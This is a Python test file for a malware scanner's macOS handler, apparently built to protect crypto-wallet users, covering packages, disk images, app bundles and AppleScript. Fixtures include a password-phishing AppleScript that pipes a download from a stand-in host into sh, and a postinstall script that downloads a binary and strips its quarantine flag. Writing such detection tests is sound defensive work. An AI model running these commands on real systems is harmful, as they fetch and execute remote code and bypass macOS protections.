"""macOS carriers: disk images, installer packages, app bundles, AppleScript (harmless samples built here)."""

from __future__ import annotations

import struct
import zlib

from coinguard.analyzers.macos import MacCarriers, pkg_scripts
from coinguard.findings import Item
from coinguard.sniff import sniff

from helpers import codes, make_context, run_handler

MACHO = b"\xcf\xfa\xed\xfe" + b"\x00" * 200


def xar(toc_xml: bytes) -> bytes:
    toc = zlib.compress(toc_xml)
    header = b"xar!" + struct.pack(">HHQQI", 28, 1, len(toc), len(toc_xml), 1)
    return header + toc + b"\x00" * 64


def test_pkg_with_install_scripts_is_conclusive() -> None:
    toc = b"<xar><toc><file><name>Scripts</name></file><file><name>postinstall</name></file></toc></xar>"
    data = xar(toc)
    assert sniff(data) == "xar"
    assert pkg_scripts(data) == ["Scripts", "postinstall"]
    assert codes(run_handler(MacCarriers(), data, "WalletUpdate.pkg")[0]) == {"macos.package", "macos.package_scripts"}


def test_pkg_without_scripts_and_broken_pkg() -> None:
    assert codes(run_handler(MacCarriers(), xar(b"<xar><toc><file><name>Payload</name></file></toc></xar>"),
                             "a.pkg")[0]) == {"macos.package"}
    broken = b"xar!" + struct.pack(">HHQQI", 28, 1, 50, 100, 1) + b"not zlib at all" * 4
    assert codes(run_handler(MacCarriers(), broken, "b.pkg")[0]) == {"macos.package", "macos.parse_error"}


def test_dmg_is_recognised_by_its_trailer() -> None:
    data = b"\x00" * 4096 + b"koly" + b"\x00" * 508
    assert sniff(data) == "dmg"
    assert codes(run_handler(MacCarriers(), data, "Ledger Live.dmg")[0]) == {"macos.disk_image"}


def test_app_bundle_executable_in_an_archive() -> None:
    item = Item(path="x.zip/Ledger.app/Contents/MacOS/Ledger", name="Ledger.app/Contents/MacOS/Ledger",
                data=MACHO, type=sniff(MACHO), role="member")
    assert MacCarriers().applies_to(item)
    assert codes(MacCarriers().handle(item, make_context())) == {"macos.app_bundle"}
    info = Item(path="x.zip/Ledger.app/Contents/Info.plist", name="Info.plist", data=b"<plist/>", type="xml")
    assert not MacCarriers().applies_to(info)


def test_applescript_source_and_compiled() -> None:
    src = b'display dialog "Enter your password to update" default answer ""\n' \
          b'do shell script "curl -s https://x.example/a | sh"\n'
    found = codes(run_handler(MacCarriers(), src, "update.applescript")[0])
    assert found == {"macos.applescript", "macos.script_behavior"}
    compiled = b"FasdUAS 1.101.10" + b"\x00" * 20 + "do shell script".encode("utf-16-be") + b"\x00" * 40
    assert sniff(compiled) == "applescript"
    assert "macos.applescript" in codes(run_handler(MacCarriers(), compiled, "a.scpt")[0])
    # a note that merely names AppleScript is text, and says nothing
    assert run_handler(MacCarriers(), b"Notes about my scripts.\n", "notes.applescript")[0] == []


def test_package_install_scripts_are_judged_by_what_they_do() -> None:
    script = b"#!/bin/sh\ncurl -fsSL https://update.example.invalid/a -o /tmp/a && chmod +x /tmp/a\n" \
             b"xattr -d com.apple.quarantine /tmp/a\n"
    item = Item(path="Setup.pkg/Scripts/Scripts.out/postinstall", name="./postinstall", data=script,
                type=sniff(script), role="member")
    assert item.type == "script.sh" and MacCarriers().applies_to(item)
    found = list(MacCarriers().handle(item, make_context()))
    assert codes(found) == {"macos.install_script_behavior"}
    assert found[0].detail == "postinstall: curl -, xattr -d com.apple.quarantine"
    # a harmless install script, and a shell script of another name, say nothing here
    calm = Item(path="p.pkg/Scripts/preinstall", name="preinstall", data=b"#!/bin/sh\n/usr/bin/killall Dock\n",
                type="script.sh", role="member")
    assert list(MacCarriers().handle(calm, make_context())) == []
    other = Item(path="x.zip/build.sh", name="build.sh", data=script, type="script.sh", role="member")
    assert not MacCarriers().applies_to(other)
